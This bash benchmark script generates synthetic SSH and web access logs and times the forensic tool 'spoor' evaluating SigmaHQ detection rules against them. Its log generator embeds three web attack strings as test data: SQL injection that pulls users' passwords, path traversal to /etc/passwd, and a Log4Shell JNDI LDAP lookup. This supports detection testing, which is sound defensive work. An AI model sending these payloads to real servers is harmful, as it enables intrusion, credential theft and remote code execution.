#!/usr/bin/env bash
# Sigma rules at scale: a generated OpenSSH auth.log and a generated web access log of EVENTS
# records each (documentation addresses only; 1 in 1,000 web requests carries an attack string),
# ingested into one case, then `spoor analyze` run without rules and with SigmaHQ's rules from
# ../shared/testdata/sigma (or RULES=DIR). Prints both times, their ratio (target ≤ 1.3×), and the
# event-rule checks per second of the difference (records of each rule's format × rules; target
# ≥ 1,000,000/s), beside `grep -c` reading both files.
#
# usage: Benchmarks/sigma.sh [EVENTS]      (default 1,000,000)
set -euo pipefail
cd "$(dirname "$0")/.."
events=${1:-1000000}
runs=${RUNS:-3}
rules=${RULES:-../shared/testdata/sigma/rules}
[ -d "$rules" ] || { echo "sigma.sh: no rules at $rules (set RULES=DIR)" >&2; exit 1; }
Scripts/setup >/dev/null
spoor=$(Scripts/build -c release | tail -n 1)
work=$(mktemp -d /tmp/spoor-sigma-bench.XXXXXX)
[ -n "${KEEP:-}" ] || trap 'rm -rf "$work"' EXIT
export XDG_DATA_HOME="$work/xdg"
source Benchmarks/common.sh

python3 Benchmarks/generate_exports.py "$work/gen" "$events" >/dev/null
python3 - "$work/access.log" "$events" <<'PY'
import random, sys
out, n = sys.argv[1], int(sys.argv[2])
rng = random.Random(7)
paths = ["/", "/index.html", "/about/", "/news/2024/01/story.html", "/wp-login.php", "/feed/", "/search?q=election"]
attacks = ["/index.php?id=1%27%20UNION%20SELECT%20user,password%20FROM%20users--", "/cgi-bin/view?f=../../../etc/passwd",
           "/?x=${jndi:ldap://203.0.113.9/a}"]
agents = ["Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36", "curl/8.5.0"]
with open(out, "w") as f:
    for i in range(n):
        t = 1704067200 + i // 10
        day, rest = divmod(t - 1704067200, 86400)
        h, rest = divmod(rest, 3600)
        m, s = divmod(rest, 60)
        path = rng.choice(attacks) if i % 1000 == 7 else rng.choice(paths)
        ip = f"{rng.choice(['192.0.2', '198.51.100', '203.0.113'])}.{rng.randrange(1, 255)}"
        f.write(f'{ip} - - [{1 + day:02d}/Jan/2024:{h:02d}:{m:02d}:{s:02d} +0000] "GET {path} HTTP/1.1" 200 {rng.randrange(200, 9000)} "-" "{rng.choice(agents)}"\n')
PY
case="$work/case"
"$spoor" case init "$case" >/dev/null
"$spoor" ingest "$case" "$work/gen/auth.log" "$work/access.log" --year 2024 >/dev/null
read -r g _ < <(times=3 best_of "$work/grep.out" ":" -- grep -c . "$work/gen/auth.log" "$work/access.log")
read -r plain kp < <(best_of "$work/plain.out" ":" -- "$spoor" analyze "$case" --no-intel)
read -r with kw < <(best_of "$work/with.out" ":" -- "$spoor" analyze "$case" --no-intel --sigma "$rules")
evaluated=$(grep -o 'Sigma: [0-9]* rule' "$work/with.out" | grep -o '[0-9]*')
# Event-rule checks: each rule's format's records, for the rules evaluated.
checks=$("$spoor" analyze "$case" --no-intel --sigma "$rules" 2>/dev/null >/dev/null; python3 - "$case/case.sqlite" "$rules" <<'PY'
import sqlite3, sys, json
db = sqlite3.connect(sys.argv[1])
counts = dict(db.execute("SELECT format, count(*) FROM record_observation WHERE kind = 'access' GROUP BY format"))
doc = json.loads(db.execute("SELECT document FROM analysis ORDER BY id DESC LIMIT 1").fetchone()[0])
sources = {"web": "web_access", "linux": "openssh", "cloud/m365": "m365_unified_audit_log",
           "cloud/azure/signin": "entra_signin", "cloud/gcp": "google_workspace_audit"}
total = 0
for rule in doc["sigma"]["evaluated"]:
    fmt = next(f for prefix, f in sources.items() if rule["file"].startswith(prefix))
    total += counts.get(fmt, 0)
print(total)
PY
)
findings=$(grep -c '^F[0-9]* \[.*\] Sigma rule' "$work/with.out" || true)
echo "sigma: $events sshd records and $events web requests, $evaluated rules evaluated of $rules"
printf '%-52s %10s %10s\n' "run" "seconds" "RSS MiB"
printf '%-52s %10s\n' "grep -c . (both files)" "$g"
printf '%-52s %10s %10s\n' "spoor analyze --no-intel" "$plain" "$((kp / 1024))"
printf '%-52s %10s %10s\n' "spoor analyze --no-intel --sigma (SigmaHQ rules)" "$with" "$((kw / 1024))"
python3 - "$plain" "$with" "$checks" "$findings" <<'PY'
import sys
plain, with_, checks, findings = float(sys.argv[1]), float(sys.argv[2]), int(sys.argv[3]), sys.argv[4]
print(f"  with / without: {with_ / plain:.2f}x (target <= 1.3x); {findings} Sigma finding(s)")
extra = with_ - plain
rate = f"{checks / extra:,.0f}" if extra > 0 else "not measurable (no slower)"
print(f"  event-rule checks: {checks:,} in {extra:.2f} s more: {rate} per second (target >= 1,000,000)")
PY
